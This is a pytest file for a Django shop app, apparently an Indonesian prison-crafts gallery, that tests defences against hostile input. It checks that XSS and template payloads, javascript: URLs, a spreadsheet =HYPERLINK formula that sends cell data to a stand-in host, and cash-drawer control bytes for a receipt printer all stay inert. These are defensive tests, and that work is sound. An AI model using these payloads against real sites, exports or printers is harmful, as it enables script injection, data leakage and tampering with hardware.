"""The usual payloads, put in through the services into every text field staff and buyers fill,
stay inert: escaped in pages (no new element), plain text in PDFs, not formulas in XLSX/CSV,
no control bytes on the receipt printer."""

import io
import re
import uuid

import html5lib
import openpyxl
import pytest
from django.test import Client

from galeri.catalog.photos import add_photo
from galeri.catalog.services import save_product
from galeri.inventory.models import LocationKind, Reason
from galeri.inventory.services import create_location, receive
from galeri.orders import services as orders
from galeri.orders.invoice import order_pdf
from galeri.payments.qris import qr_svg
from galeri.units.models import Role
from galeri.units.services import save_unit
from tests.helpers import pdf_text, response_bytes, static_qris, verify_session

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"
XSS = f"{SCRIPT}{IMG}{TEMPLATE}"  # 66 characters: fits every name field


def elements(html: str):
    """Every element a browser would build from the page."""
    document = html5lib.parse(html, namespaceHTMLElements=False)
    return list(document.iter())


def assert_inert(html: str, where: str):
    assert SCRIPT not in html, where
    assert "<img src=x" not in html and '<img src="x"' not in html, where
    injected = [
        el
        for el in elements(html)
        if (el.tag == "img" and el.get("src") == "x")
        or any(a.startswith("on") for a in el.attrib)
        or (el.tag == "script" and "alert(1)" in (el.text or "") and el.get("type") != "application/ld+json")
    ]
    assert injected == [], where
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "\\u003cscript\\u003e" in html, where
    assert TEMPLATE in html or "{{7*7}}" in html.replace("&#x27;", "'"), where


@pytest.fixture
def hostile(unit_tree, make_category, make_product, make_image, make_upload):
    """A unit, category and product whose every text field carries the payloads."""
    unit = unit_tree.lapas
    unit.official_name = f"Lapas {XSS}"
    unit.short_name = f"L{SCRIPT}"
    unit.description = XSS
    unit.address = XSS
    unit.gallery_address = XSS
    unit.opening_hours = f"{XSS}\n{IMG}"
    unit.qris_payload = static_qris("GALERI")
    unit.whatsapp = "0812-3456-7890"
    save_unit(unit)
    category = make_category(f"Anyaman {XSS}", description=XSS)
    product = make_product(
        unit=unit,
        category=category,
        name=f"Tas {XSS}",
        short_description=XSS,
        description=f"{XSS}\n\n{IMG}",
        story=XSS,
        workshop_credit=f"Bengkel {SCRIPT}"[:80],
        sale_unit="{{7*7}}<b>",
        sku="XSS-1",
        stock_quantity=0,
    )
    add_photo(product, make_upload(make_image("PNG", size=(200, 200))), XSS)
    location = create_location(unit, f"Galeri {SCRIPT}", kind=LocationKind.GALLERY, is_sellable=True)
    receive(product, location, 5, reason=Reason.INITIAL, note=XSS)
    product.refresh_from_db()
    return product


def test_javascript_urls_are_refused_for_the_unit_map(unit_tree):
    from django.core.exceptions import ValidationError

    unit = unit_tree.lapas
    for url in ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>"]:
        unit.map_url = url
        with pytest.raises(ValidationError):
            save_unit(unit)


def test_public_pages_show_the_payloads_as_text(client, hostile):
    product = hostile
    pages = [
        "/",
        "/produk/",
        product.get_absolute_url(),
        product.unit.get_absolute_url(),
        product.category.get_absolute_url(),
        "/dampak/",
        f"/cari/?q={SCRIPT}",
        "/cari/?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    ]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.content.decode()
        if path.startswith("/cari/?q=%22"):
            assert "<img src=x" not in html and not [e for e in elements(html) if e.get("src") == "x"]
            continue
        assert_inert(html, path)
    # The cart and checkout pages show the product name too.
    client.post("/keranjang/tambah/", {"product": product.pk, "quantity": 1})
    for path in ["/keranjang/", "/checkout/"]:
        assert_inert(client.get(path).content.decode(), path)


def test_the_share_preview_and_json_ld_cannot_break_out(client, hostile):
    html = client.get(hostile.get_absolute_url()).content.decode()
    head = html.split("</head>")[0]
    json_ld = re.search(r'<script type="application/ld\+json">(.*?)</script>', head, re.S).group(1)
    assert "<" not in json_ld and ">" not in json_ld
    for meta in re.findall(r"<meta [^>]+>", head):
        assert "<script" not in meta and "<img" not in meta


@pytest.fixture
def order_with_payloads(hostile, unit_tree):
    unit = hostile.unit
    choice = orders.UnitChoice(
        unit.pk,
        "antar",
        "transfer",
        region_code="81.71.02.2003",  # the kelurahan is the Kemendagri place's; the payloads go in the street and notes
        option_key="staff_quote",
        street=XSS,
        delivery_notes=XSS,
    )
    unit.bank_name, unit.bank_account_number, unit.bank_account_name = "Bank Maluku", "1234567890", XSS[:120]
    save_unit(unit)
    result = orders.place_checkout(
        idempotency_key=uuid.uuid4(),
        buyer=orders.Buyer(name=f"Pembeli {SCRIPT}", phone="+6281234567890", email="pembeli@contoh.id", note=XSS),
        items=[(hostile.pk, 1)],
        choices={unit.pk: choice},
    )
    return result.orders[0]


def staff_client(make_staff, role, unit):
    user = make_staff(role, unit)
    user.first_name = f"Petugas {SCRIPT}"
    user.last_name = IMG
    user.save()
    client = Client()
    client.force_login(user)
    verify_session(client, user)
    return client


def test_console_pages_show_buyer_and_product_payloads_as_text(hostile, order_with_payloads, make_staff, unit_tree):
    client = staff_client(make_staff, Role.UNIT_ADMIN, unit_tree.lapas)
    pages = [
        "/petugas/",
        "/petugas/produk/",
        f"/petugas/produk/{hostile.pk}/",
        "/petugas/produk/persetujuan/",
        "/petugas/pesanan/",
        f"/petugas/pesanan/{order_with_payloads.pk}/",
        "/petugas/stok/",
    ]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.content.decode()
        assert SCRIPT not in html, path
        assert not [e for e in elements(html) if e.tag == "img" and e.get("src") == "x"], path
        assert not [e for e in elements(html) for a in e.attrib if a.startswith("on")], path
    detail = client.get(f"/petugas/pesanan/{order_with_payloads.pk}/").content.decode()
    assert "Pembeli &lt;script&gt;alert(1)&lt;/script&gt;" in detail


def test_pdfs_show_the_payloads_as_plain_text(order_with_payloads):
    pdf = order_pdf(order_with_payloads)
    text = pdf_text(pdf, "")
    flat = re.sub(r"\s+", "", text)
    assert "Pembeli<script>alert(1)</script>" in flat  # drawn as the characters typed, not read as markup
    assert "Tas<script>" in flat


def test_xlsx_and_csv_exports_neutralise_formulas(hostile, make_staff, unit_tree):
    hostile.name = '=HYPERLINK("http://contoh.test/?"&A1,"klik")'
    hostile.short_description = "+1+2"
    hostile.workshop_credit = "@SUM(A1:A2)"
    hostile.sale_unit = "-2+3"
    save_product(hostile)
    client = staff_client(make_staff, Role.UNIT_ADMIN, unit_tree.lapas)
    response = client.get("/petugas/produk/ekspor/?format=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response_bytes(response)))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert '\'=HYPERLINK("http://contoh.test/?"&A1,"klik")' in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]
    csv = client.get("/petugas/produk/ekspor/?format=csv")
    text = b"".join(csv.streaming_content).decode() if csv.streaming else csv.content.decode()
    assert "'=HYPERLINK" in text and not re.search(r'(^|,)"?=HYPERLINK', text, re.M)


def test_the_qris_svg_title_escapes_the_unit_name(unit_tree):
    svg = qr_svg(static_qris("GALERI"), title=f"QRIS {XSS}")
    assert SCRIPT not in svg and "<img" not in svg
    assert "&lt;script&gt;" in svg


CONTROL = "Tas\x1b@\x1bp\x00\x19\x1dV\x00Anyaman"  # ESC @ (reset), ESC p (open the cash drawer), GS V (cut)


def test_control_bytes_in_names_never_reach_the_receipt_printer():
    from galeri.pos.receipt import escpos_bytes

    clean = escpos_bytes(["Tas Anyaman"])
    hostile = escpos_bytes([CONTROL])
    # The only ESC/GS bytes are the printer commands of a clean receipt: the name adds none.
    for byte in (b"\x1b", b"\x1d", b"\x00", b"\x19"):
        assert hostile.count(byte) == clean.count(byte)


def test_control_bytes_in_names_never_reach_the_label_printer():
    from galeri.core.printing import printer_text

    assert printer_text(CONTROL).isprintable()
    assert printer_text("Karya Warga Binaan — LPA · Kué") == "Karya Warga Binaan - LPA ? Kue"
